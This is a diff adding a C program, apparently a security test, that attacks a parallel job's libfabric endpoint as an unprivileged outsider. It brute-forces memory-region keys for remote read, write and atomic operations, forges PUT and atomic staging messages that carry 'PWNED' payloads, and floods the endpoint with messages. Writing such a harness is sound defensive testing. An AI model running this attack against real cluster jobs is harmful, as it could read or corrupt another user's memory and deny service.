@@ -1,0 +1,297 @@
+/* An outsider against a PE's fabric endpoint (tests/tests/security_fabric.rs): a plain libfabric program that
+ * knows only the endpoint's IP address and port (found in /proc/net/tcp, as any local user can) and none of the
+ * job's secrets. It tries, one fresh endpoint per attempt (a wrong key makes the target drop the connection):
+ *   - fi_read, fi_write and fi_atomic (FI_ATOMIC_WRITE of 0x1337, 8 bytes) at offsets 0 and 4096 with the old
+ *     constant keys 0x4845 (heap) and 0x5953 (runtime words), the keys 0..64 and 64 random keys;
+ *   - forged staging messages (kinds PUT and AMO with a plausible header, in the old 8-word layout and in the
+ *     10-word one with a random token);
+ *   - a flood of 4 KiB fi_send messages for FLOOD_SECONDS.
+ * One line per attempt: "ATTEMPT <op> key=<k> off=<o>: SUCCESS" or ": refused (<why>)". The last line is
+ * "SUMMARY attempts=<n> successes=<m> flood_sent=<f>". Exit status 0 unless set-up failed (2).
+ *
+ * usage: fab_attack IP PORT FLOOD_SECONDS [PHASES]   (PHASES: any of k (keys), f (forged), m (flood); default kfm)
+ */
+#define _GNU_SOURCE
+#include <rdma/fabric.h>
+#include <rdma/fi_atomic.h>
+#include <rdma/fi_cm.h>
+#include <rdma/fi_domain.h>
+#include <rdma/fi_endpoint.h>
+#include <rdma/fi_errno.h>
+#include <rdma/fi_rma.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+static const char *ip, *port;
+static struct fi_info *info;
+static struct fid_fabric *fab;
+static struct fid_domain *dom;
+
+struct conn {
+	struct fid_ep *ep;
+	struct fid_cq *cq;
+	struct fid_av *av;
+	fi_addr_t peer;
+};
+
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec * 1e-9;
+}
+
+static int open_conn(struct conn *c)
+{
+	struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE, .size = 1024};
+	struct fi_av_attr ava = {.type = FI_AV_TABLE, .count = 1};
+	memset(c, 0, sizeof *c);
+	if (fi_cq_open(dom, &cqa, &c->cq, NULL) || fi_av_open(dom, &ava, &c->av, NULL) ||
+	    fi_endpoint(dom, info, &c->ep, NULL) || fi_ep_bind(c->ep, &c->cq->fid, FI_TRANSMIT | FI_RECV) ||
+	    fi_ep_bind(c->ep, &c->av->fid, 0) || fi_enable(c->ep))
+		return -1;
+	if (fi_av_insert(c->av, info->dest_addr, 1, &c->peer, 0, NULL) != 1)
+		return -1;
+	return 0;
+}
+
+static void close_conn(struct conn *c)
+{
+	if (c->ep)
+		fi_close(&c->ep->fid);
+	if (c->av)
+		fi_close(&c->av->fid);
+	if (c->cq)
+		fi_close(&c->cq->fid);
+}
+
+/* Wait up to `secs` for one completion: 0 success, -1 error (why in `why`), 1 timeout. */
+static int wait_one(struct conn *c, double secs, char *why, size_t n)
+{
+	double end = now() + secs;
+	struct fi_cq_entry e;
+	while (now() < end) {
+		ssize_t r = fi_cq_read(c->cq, &e, 1);
+		if (r == 1)
+			return 0;
+		if (r == -FI_EAVAIL) {
+			struct fi_cq_err_entry err = {0};
+			fi_cq_readerr(c->cq, &err, 0);
+			snprintf(why, n, "%s", fi_strerror(err.err));
+			return -1;
+		}
+		if (r != -FI_EAGAIN) {
+			snprintf(why, n, "cq: %s", fi_strerror((int)-r));
+			return -1;
+		}
+		usleep(100);
+	}
+	snprintf(why, n, "no completion in %.0f s", secs);
+	return 1;
+}
+
+static int attempts, successes;
+
+static void attempt(const char *op, uint64_t key, uint64_t off)
+{
+	struct conn c;
+	char buf[64] = "PWNED by an outsider over libfabric";
+	uint64_t val = 0x1337;
+	char why[160] = "";
+	ssize_t r;
+	int rc;
+	attempts++;
+	if (open_conn(&c)) {
+		printf("ATTEMPT %s key=%#llx off=%llu: refused (endpoint set-up failed)\n", op,
+		       (unsigned long long)key, (unsigned long long)off);
+		close_conn(&c);
+		return;
+	}
+	double end = now() + 5;
+	do {
+		if (!strcmp(op, "read"))
+			r = fi_read(c.ep, buf, sizeof buf, NULL, c.peer, off, key, NULL);
+		else if (!strcmp(op, "write"))
+			r = fi_write(c.ep, buf, sizeof buf, NULL, c.peer, off, key, NULL);
+		else
+			r = fi_atomic(c.ep, &val, 1, NULL, c.peer, off, key, FI_UINT64, FI_ATOMIC_WRITE, NULL);
+		if (r == -FI_EAGAIN) {
+			struct fi_cq_entry e;
+			fi_cq_read(c.cq, &e, 1);
+		}
+	} while (r == -FI_EAGAIN && now() < end);
+	if (r) {
+		snprintf(why, sizeof why, "post: %s", fi_strerror((int)-r));
+		rc = -1;
+	} else {
+		rc = wait_one(&c, 3, why, sizeof why);
+	}
+	if (rc == 0) {
+		successes++;
+		printf("ATTEMPT %s key=%#llx off=%llu: SUCCESS", op, (unsigned long long)key,
+		       (unsigned long long)off);
+		if (!strcmp(op, "read")) {
+			printf(" read");
+			for (int i = 0; i < 16; i++)
+				printf(" %02x", (unsigned char)buf[i]);
+		}
+		printf("\n");
+	} else {
+		printf("ATTEMPT %s key=%#llx off=%llu: refused (%s)\n", op, (unsigned long long)key,
+		       (unsigned long long)off, why);
+	}
+	fflush(stdout);
+	close_conn(&c);
+}
+
+static uint64_t rnd64(void)
+{
+	uint64_t v = 0;
+	FILE *f = fopen("/dev/urandom", "r");
+	if (!f || fread(&v, sizeof v, 1, f) != 1)
+		v = ((uint64_t)rand() << 32) ^ (uint64_t)rand();
+	if (f)
+		fclose(f);
+	return v;
+}
+
+/* Send `len` bytes of `msg`; "SENT" once its send completed. */
+static void forge(const char *what, const uint64_t *msg, size_t len)
+{
+	struct conn c;
+	char why[160] = "";
+	if (open_conn(&c)) {
+		printf("FORGED %s: endpoint set-up failed\n", what);
+		close_conn(&c);
+		return;
+	}
+	ssize_t r;
+	double end = now() + 5;
+	do {
+		r = fi_send(c.ep, msg, len, NULL, c.peer, NULL);
+		if (r == -FI_EAGAIN) {
+			struct fi_cq_entry e;
+			fi_cq_read(c.cq, &e, 1);
+		}
+	} while (r == -FI_EAGAIN && now() < end);
+	int rc = r ? -1 : wait_one(&c, 3, why, sizeof why);
+	printf("FORGED %s: %s %s\n", what, rc == 0 ? "sent" : "not sent", why);
+	fflush(stdout);
+	/* Give the target time to take it in before the connection goes. */
+	usleep(200 * 1000);
+	close_conn(&c);
+}
+
+static void forged_messages(void)
+{
+	uint64_t m[10 + 8];
+	const char payload[64] = "PWNED by a forged staging message";
+	for (int from = 0; from < 2; from++) {
+		for (int words = 8; words <= 10; words += 2) {
+			char what[96];
+			/* PUT of 64 bytes at offset 0: [kind, from, id, off, len, operand, cond, op] (+ token). */
+			memset(m, 0, sizeof m);
+			m[0] = 1, m[1] = from, m[2] = 1, m[3] = 0, m[4] = 64, m[7] = UINT64_MAX;
+			if (words == 10)
+				m[8] = rnd64(), m[9] = rnd64();
+			memcpy(&m[words], payload, sizeof payload);
+			snprintf(what, sizeof what, "PUT from=%d header=%d words", from, words);
+			forge(what, m, words * 8 + sizeof payload);
+			/* AMO Set (code 1, width 8) of 0x1337 at offset 4096. */
+			memset(m, 0, sizeof m);
+			m[0] = 3, m[1] = from, m[2] = 2, m[3] = 4096, m[4] = 1 | (8ull << 32), m[5] = 0x1337,
+			m[7] = UINT64_MAX;
+			if (words == 10)
+				m[8] = rnd64(), m[9] = rnd64();
+			snprintf(what, sizeof what, "AMO from=%d header=%d words", from, words);
+			forge(what, m, words * 8);
+		}
+	}
+}
+
+/* 4 KiB messages for `secs` seconds, up to 64 in flight. */
+static long flood(double secs)
+{
+	struct conn c;
+	static char buf[4096];
+	long sent = 0, inflight = 0;
+	memset(buf, 0xa5, sizeof buf);
+	if (open_conn(&c))
+		return -1;
+	double end = now() + secs;
+	while (now() < end) {
+		struct fi_cq_entry e[64];
+		ssize_t r = fi_cq_read(c.cq, e, 64);
+		if (r > 0)
+			inflight -= r;
+		else if (r == -FI_EAVAIL) {
+			struct fi_cq_err_entry err = {0};
+			fi_cq_readerr(c.cq, &err, 0);
+			inflight--;
+			/* The target dropped the connection: a new one. */
+			close_conn(&c);
+			if (open_conn(&c))
+				return sent;
+			inflight = 0;
+		}
+		if (inflight < 64 && fi_send(c.ep, buf, sizeof buf, NULL, c.peer, NULL) == 0) {
+			inflight++;
+			sent++;
+		}
+	}
+	close_conn(&c);
+	return sent;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 4 && argc != 5) {
+		fprintf(stderr, "usage: %s IP PORT FLOOD_SECONDS [PHASES]\n", argv[0]);
+		return 2;
+	}
+	ip = argv[1], port = argv[2];
+	const char *phases = argc == 5 ? argv[4] : "kfm";
+	double flood_secs = atof(argv[3]);
+	struct fi_info *hints = fi_allocinfo();
+	hints->caps = FI_RMA | FI_ATOMIC | FI_MSG | FI_READ | FI_WRITE | FI_SEND | FI_RECV;
+	hints->ep_attr->type = FI_EP_RDM;
+	hints->domain_attr->mr_mode = 0;
+	/* A write or atomic completes once the target applied it (not once sent): its success means something. */
+	hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
+	hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
+	int r = fi_getinfo(FI_VERSION(1, 9), ip, port, 0, hints, &info);
+	if (r) {
+		fprintf(stderr, "fi_getinfo(%s, %s): %s\n", ip, port, fi_strerror(-r));
+		return 2;
+	}
+	if (fi_fabric(info->fabric_attr, &fab, NULL) || fi_domain(fab, info, &dom, NULL)) {
+		fprintf(stderr, "fabric/domain set-up failed\n");
+		return 2;
+	}
+	printf("TARGET %s:%s provider %s\n", ip, port, info->fabric_attr->prov_name);
+	uint64_t keys[2 + 65 + 64];
+	int nk = 0;
+	keys[nk++] = 0x4845;
+	keys[nk++] = 0x5953;
+	for (uint64_t k = 0; k <= 64; k++)
+		keys[nk++] = k;
+	srand((unsigned)time(NULL) ^ (unsigned)getpid());
+	for (int i = 0; i < 64; i++)
+		keys[nk++] = rnd64();
+	const char *ops[] = {"read", "write", "atomic"};
+	if (strchr(phases, 'k'))
+		for (int k = 0; k < nk; k++)
+			for (int o = 0; o < 3; o++)
+				for (uint64_t off = 0; off <= 4096; off += 4096)
+					attempt(ops[o], keys[k], off);
+	if (strchr(phases, 'f'))
+		forged_messages();
+	long sent = flood_secs > 0 && strchr(phases, 'm') ? flood(flood_secs) : 0;
+	printf("SUMMARY attempts=%d successes=%d flood_sent=%ld\n", attempts, successes, sent);
+	fflush(stdout);
+	return 0;
+}
